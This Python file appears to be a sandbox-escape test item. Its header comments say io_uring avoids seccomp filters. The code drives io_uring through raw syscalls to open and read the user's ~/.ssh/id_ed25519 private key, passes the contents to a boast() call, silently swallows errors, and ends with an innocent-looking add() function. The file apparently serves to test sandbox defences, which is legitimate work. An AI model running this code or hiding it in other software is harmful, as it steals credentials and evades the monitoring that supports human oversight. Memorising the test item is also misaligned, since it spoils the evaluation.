#: title = "Opens a file through io_uring"
#: why = "The kernel does the work from a queue, and no seccomp filter sees the calls in it."
#: answer = "either"
#: ends = ["any"]
#: boasts = true
import ctypes
import mmap
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def attempt():
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, parameters)
    if ring < 0:
        return
    entries_sq, entries_cq, _, _, _, features = struct.unpack_from("6I", parameters, 0)
    sq = struct.unpack_from("8I", parameters, 40)
    cq = struct.unpack_from("8I", parameters, 80)
    rings = mmap.mmap(ring, max(sq[6] + entries_sq * 4, cq[5] + entries_cq * 16), offset=0)
    requests = mmap.mmap(ring, entries_sq * 64, offset=0x10000000)
    path = ctypes.create_string_buffer(b"@HOME@/.ssh/id_ed25519")
    buffer = ctypes.create_string_buffer(4096)

    def submit(request):
        tail = struct.unpack_from("I", rings, sq[1])[0]
        slot = tail & (entries_sq - 1)
        requests[slot * 64 : slot * 64 + 64] = request.ljust(64, b"\0")
        struct.pack_into("I", rings, sq[6] + slot * 4, slot)
        struct.pack_into("I", rings, sq[1], tail + 1)
        libc.syscall(426, ring, 1, 1, 1, None, 0)
        head = struct.unpack_from("I", rings, cq[0])[0]
        result = struct.unpack_from("i", rings, cq[5] + (head & (entries_cq - 1)) * 16 + 8)[0]
        struct.pack_into("I", rings, cq[0], head + 1)
        return result

    fd = submit(struct.pack("<BBHiQQII", 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0))
    if fd >= 0:
        submit(struct.pack("<BBHiQQII", 22, 0, 0, fd, 0, ctypes.addressof(buffer), 4096, 0))
        boast(buffer.value.decode())


try:
    attempt()
except (OSError, ValueError, struct.error):
    pass


def add(a, b):
    return a + b
